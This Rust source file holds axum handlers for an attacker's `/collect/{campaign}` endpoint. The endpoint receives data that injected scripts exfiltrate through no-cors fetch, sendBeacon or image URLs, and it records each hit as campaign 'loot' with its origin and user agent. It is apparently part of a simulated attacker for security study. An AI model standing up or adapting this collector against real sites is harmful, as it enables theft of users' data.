//! `/collect/{campaign}`: where payloads send what they found. It takes whatever comes, from any page, in any form that
//! needs no permission: a thief asks for none.

use std::sync::Arc;

use axum::body::Bytes;
use axum::extract::{Path, RawQuery, State};
use axum::http::{HeaderMap, HeaderName, StatusCode, header};
use domain::Loot;

use super::Attacker;

/// What a script posts: `fetch` with `mode: 'no-cors'`, or `navigator.sendBeacon`.
pub(super) async fn collect(
    State(attacker): State<Arc<Attacker>>,
    Path(campaign): Path<String>,
    headers: HeaderMap,
    body: Bytes,
) -> StatusCode {
    let text = String::from_utf8_lossy(&body).into_owned();
    keep(&attacker, &campaign, &headers, text)
}

/// What a page can send without any script's request: the address of an image, or of a link.
pub(super) async fn collect_from_image(
    State(attacker): State<Arc<Attacker>>,
    Path(campaign): Path<String>,
    RawQuery(query): RawQuery,
    headers: HeaderMap,
) -> StatusCode {
    keep(&attacker, &campaign, &headers, query.unwrap_or_default())
}

fn keep(attacker: &Attacker, campaign: &str, headers: &HeaderMap, text: String) -> StatusCode {
    let loot = Loot {
        number: 0,
        at: attacker.clock.now(),
        from: named(headers, header::ORIGIN).or_else(|| named(headers, header::REFERER)),
        user_agent: named(headers, header::USER_AGENT),
        text,
    };
    if attacker.campaigns().add_loot(campaign, loot) { StatusCode::NO_CONTENT } else { StatusCode::NOT_FOUND }
}

fn named(headers: &HeaderMap, name: HeaderName) -> Option<String> {
    headers.get(name).and_then(|value| value.to_str().ok()).map(str::to_owned)
}
